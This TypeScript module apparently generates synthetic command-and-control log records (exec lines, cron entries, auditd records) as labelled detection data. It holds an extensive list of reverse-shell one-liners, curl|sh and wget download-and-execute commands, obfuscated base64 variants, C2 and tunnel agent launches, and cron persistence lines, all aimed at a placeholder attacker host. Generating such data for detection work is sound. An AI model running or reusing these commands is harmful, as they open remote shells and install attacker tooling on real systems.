/**
 * Command and control on hosts: reverse shells, tool download and execution, tunnels and C2
 * agents, curl|sh cron persistence.
 *
 * @module
 */
import type { Ctx, Template } from "../types.ts";
import { syslog } from "../format.ts";
import { b64 } from "../rng.ts";
import { anyHost, evilIp, evilPort, victimUser } from "./host_common.ts";
import { auditRecord, execLine, PROC_FMTS } from "./host_exec.ts";

/** A reverse-shell one-liner to ip:port. */
export function reverseShell(ctx: Ctx, ip: string, port: number): string {
  const { rng } = ctx;
  const sh = rng.pick(["/bin/sh", "/bin/bash", "sh", "bash"]);
  return rng.weighted<string>([
    [`bash -i >& /dev/tcp/${ip}/${port} 0>&1`, 6],
    [`bash -c 'bash -i >& /dev/tcp/${ip}/${port} 0>&1'`, 3],
    [`/bin/bash -l > /dev/tcp/${ip}/${port} 0<&1 2>&1`, 1],
    [`sh -i >& /dev/udp/${ip}/${port} 0>&1`, 1],
    [`0<&196;exec 196<>/dev/tcp/${ip}/${port}; sh <&196 >&196 2>&196`, 1],
    [`exec 5<>/dev/tcp/${ip}/${port};cat <&5 | while read line; do $line 2>&5 >&5; done`, 1],
    [`nc -e ${sh} ${ip} ${port}`, 4],
    [`nc ${ip} ${port} -e ${sh}`, 2],
    [`nc.traditional -e /bin/bash ${ip} ${port}`, 2],
    [`ncat ${ip} ${port} --exec ${sh}`, 1],
    [`ncat --ssl -e /bin/bash ${ip} ${port}`, 1],
    [`busybox nc ${ip} ${port} -e ${sh}`, 1],
    [`rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|${sh} -i 2>&1|nc ${ip} ${port} >/tmp/f`, 5],
    [`rm -f /tmp/p; mknod /tmp/p p && nc ${ip} ${port} 0</tmp/p | /bin/bash 1>/tmp/p`, 1],
    [
      `python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("${ip}",${port}));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn("${sh}")'`,
      4,
    ],
    [
      `python -c 'import socket,os,pty;s=socket.socket();s.connect(("${ip}",${port}));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("/bin/bash")'`,
      2,
    ],
    [
      `perl -e 'use Socket;$i="${ip}";$p=${port};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("${sh} -i");};'`,
      2,
    ],
    [`php -r '$sock=fsockopen("${ip}",${port});exec("/bin/sh -i <&3 >&3 2>&3");'`, 2],
    [`php -r '$sock=fsockopen("${ip}",${port});shell_exec("/bin/sh -i <&3 >&3 2>&3");'`, 1],
    [`socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:${ip}:${port}`, 2],
    [`socat TCP:${ip}:${port} EXEC:${sh}`, 1],
    [
      `ruby -rsocket -e'f=TCPSocket.open("${ip}",${port}).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`,
      1,
    ],
    [
      `awk 'BEGIN {s = "/inet/tcp/0/${ip}/${port}"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}' /dev/null`,
      1,
    ],
    [`telnet ${ip} ${port} | /bin/bash | telnet ${ip} ${port + 1}`, 1],
    [
      `lua -e "require('socket');require('os');t=socket.tcp();t:connect('${ip}','${port}');os.execute('/bin/sh -i <&3 >&3 2>&3');"`,
      1,
    ],
    [`echo ${b64(`bash -i >& /dev/tcp/${ip}/${port} 0>&1`)} | base64 -d | bash`, 2],
  ]);
}

/** A tool download (and usually execution) from an attacker host. */
export function toolDownload(ctx: Ctx, ip: string): string {
  const { rng } = ctx;
  const port = rng.pick(["", "", ":8000", ":8080", ":80", ":443", ":9000", ":8888"]);
  const tool = rng.pick([
    "x.sh",
    "linpeas.sh",
    "lse.sh",
    "pspy64",
    "s",
    "a",
    "bot.sh",
    "kinsing",
    "xmrig",
    "chisel",
    "shell.elf",
    "update.sh",
    "agent",
    "payload",
    "m.sh",
    "LinEnum.sh",
    "socat",
    "nmap",
  ]);
  const dir = rng.pick(["/tmp", "/dev/shm", "/var/tmp", "/tmp/.x", "/tmp/.ICE-unix", "."]);
  const u = `${rng.pick(["http", "http", "https"])}://${ip}${port}/${
    rng.chance(0.3) ? rng.pick(["tools/", "static/", "files/", "dl/"]) : ""
  }${tool}`;
  const f = `${dir}/${rng.chance(0.3) ? "." : ""}${tool.replace(".sh", "")}`;
  return rng.weighted<string>([
    [`wget ${u} -O ${f}`, 4],
    [`wget -q ${u} -O ${f}; chmod +x ${f}; ${f}`, 3],
    [`cd ${dir}; wget ${u}; chmod 777 ${tool}; ./${tool}`, 3],
    [`curl -s ${u} | sh`, 4],
    [`curl -fsSL ${u} | bash`, 3],
    [`curl ${u} -o ${f} && chmod +x ${f} && ${f} &`, 3],
    [`wget -qO- ${u} | sh`, 3],
    [`curl -sk ${u}|bash -s`, 1],
    [`busybox wget ${u} -O ${f}; chmod +x ${f}; ${f}`, 2],
    [`tftp -g -r ${tool} ${ip}; chmod +x ${tool}; ./${tool}`, 1],
    [`(curl -s ${u}||wget -q -O- ${u})|bash`, 2],
    [`python3 -c "import urllib.request;urllib.request.urlretrieve('${u}','${f}')"`, 1],
    [`echo ${b64(`curl -s ${u} | bash`)} | base64 -d | bash`, 2],
    [`scp -P ${rng.int(2000, 60000)} kali@${ip}:/root/${tool} ${f}`, 1],
    [`nohup ${f} >/dev/null 2>&1 &`, 1],
  ]);
}

/** A tunnel or C2 agent being started. */
function c2Agent(ctx: Ctx, ip: string): string {
  const { rng } = ctx;
  const p = rng.pick([8080, 443, 8443, 9001, 1080, 7000, 53]);
  return rng.pick([
    `chisel client ${ip}:${p} R:socks`,
    `./chisel client ${ip}:${p} R:${rng.int(2000, 9999)}:127.0.0.1:${
      rng.pick([22, 3306, 5432, 3389])
    }`,
    `/tmp/chisel client --fingerprint ${rng.alnum(43)}= ${ip}:${p} R:socks`,
    `./frpc -c frpc.ini`,
    `/tmp/.x/frpc -c /tmp/.x/frpc.toml`,
    `ngrok tcp 22`,
    `./ngrok tcp ${rng.pick([22, 4444, 3389])} --authtoken ${rng.alnum(20)}_${rng.alnum(25)}`,
    `/tmp/.x/kworker -c config.json`,
    `/dev/shm/.cache/kthreadd -o ${ip}:${p} -u ${rng.alnum(40)}`,
    `./sliver-client_linux`,
    `/tmp/${rng.pick(["SPOOKY_SCARF", "TALL_CUSHION", "BRAVE_EAGLE"])} &`,
    `./meterpreter.elf &`,
    `msfvenom -p linux/x64/meterpreter/reverse_tcp LHOST=${ip} LPORT=${p} -f elf -o /tmp/m.elf`,
    `ssh -fN -R ${rng.int(2000, 9999)}:localhost:22 tunnel@${ip}`,
    `ssh -o StrictHostKeyChecking=no -fND 1080 root@${ip} -p ${rng.int(2000, 60000)}`,
    `socat TCP-LISTEN:${rng.int(2000, 9999)},fork TCP:${ip}:${p} &`,
    `iodine -f -P ${rng.alnum(10)} ${ip} t1.${rng.alnum(6).toLowerCase()}.xyz`,
    `gsocket -s ${rng.alnum(22)} -i`,
    `bash -c "$(curl -fsSL gsocket.io/x)"`,
    `./rsockstun -connect ${ip}:${p} -pass ${rng.alnum(10)}`,
  ]);
}

const who = (c: Ctx) => victimUser(c);

/** Command-and-control templates. */
export const C2_TEMPLATES: Template[] = [
  {
    family: "shell_cmd",
    label: "command_and_control",
    weight: 10,
    make: (c) =>
      execLine(c, {
        cmd: reverseShell(c, evilIp(c), evilPort(c)),
        who: who(c),
        peer: c.rng.chance(0.3) ? evilIp(c) : undefined,
      }),
  },
  {
    family: "shell_cmd",
    label: "command_and_control",
    weight: 8,
    make: (c) =>
      execLine(c, {
        cmd: toolDownload(c, evilIp(c)),
        who: who(c),
        peer: c.rng.chance(0.3) ? evilIp(c) : undefined,
      }),
  },
  {
    family: "shell_cmd",
    label: "command_and_control",
    weight: 5,
    make: (c) => execLine(c, { cmd: c2Agent(c, evilIp(c)), who: who(c) }),
  },
  {
    family: "cron",
    label: "command_and_control",
    weight: 3,
    make: (c) => {
      const { rng } = c;
      const ip = evilIp(c);
      const u = rng.pick(["www-data", "root", "www-data", "redis", "postgres", "nobody"]);
      const cmd = rng.pick([
        `curl -fsSL http://${ip}/s | sh`,
        `wget -q -O - http://${ip}:${rng.pick([80, 8000, 8080])}/cr.sh | bash > /dev/null 2>&1`,
        `/bin/bash -c 'bash -i >& /dev/tcp/${ip}/${evilPort(c)} 0>&1'`,
        `(curl -s http://${ip}/a||wget -q -O- http://${ip}/a)|sh`,
        `/tmp/.x/kworker >/dev/null 2>&1`,
        `echo ${b64(`curl -s http://${ip}/x|sh`)}|base64 -d|bash`,
        `nc -e /bin/sh ${ip} ${evilPort(c)}`,
      ]);
      return syslog(
        c,
        anyHost(c),
        rng.pick(["CRON", "CRON", "crond"]),
        rng.int(300, 99999),
        `(${u}) CMD (${cmd})`,
        "cron",
      );
    },
  },
  {
    family: "auditd",
    label: "command_and_control",
    weight: 4,
    make: (c) => {
      const { rng } = c;
      const [name, uid] = rng.pick(
        [["www-data", 33], ["apache", 48], ["nginx", 997], ["tomcat", 995], [
          "nobody",
          65534,
        ]] as const,
      );
      const [comm, exe] = rng.pick(
        [
          ["sh", "/usr/bin/dash"],
          ["bash", "/usr/bin/bash"],
          ["nc", "/usr/bin/nc.openbsd"],
          ["nc.traditional", "/usr/bin/nc.traditional"],
          ["python3", "/usr/bin/python3.11"],
          ["perl", "/usr/bin/perl"],
          ["socat", "/usr/bin/socat"],
          ["ncat", "/usr/bin/ncat"],
        ] as const,
      );
      const pid = rng.int(300, 99999);
      const sc = rng.pick([["42", "connect"], ["41", "socket"], ["59", "execve"]] as const);
      const key = rng.pick([
        '"susp_shell"',
        '"network_connect_4"',
        '"webshell"',
        '"rev_shell"',
        '"T1059_shell"',
        '"www_exec"',
      ]);
      const body = `arch=c000003e syscall=${sc[0]} success=yes exit=0 a0=${rng.hex(2)} a1=${
        rng.hex(12)
      } a2=${rng.hex(2)} a3=0 items=${sc[1] === "execve" ? 2 : 0} ppid=${
        rng.int(300, pid)
      } pid=${pid} auid=4294967295 uid=${uid} gid=${uid} euid=${uid} suid=${uid} fsuid=${uid} egid=${uid} sgid=${uid} fsgid=${uid} tty=(none) ses=4294967295 comm="${comm}" exe="${exe}" key=${key}`;
      const enriched = rng.chance(0.4)
        ? ` ARCH=x86_64 SYSCALL=${sc[1]} AUID="unset" UID="${name}" GID="${name}"`
        : "";
      return auditRecord(c, anyHost(c), "SYSCALL", 1300, body + enriched);
    },
  },
  {
    family: "shell_cmd",
    label: "command_and_control",
    weight: 2,
    make: (c) => execLine(c, { cmd: toolDownload(c, evilIp(c)), who: who(c) }, PROC_FMTS),
  },
];
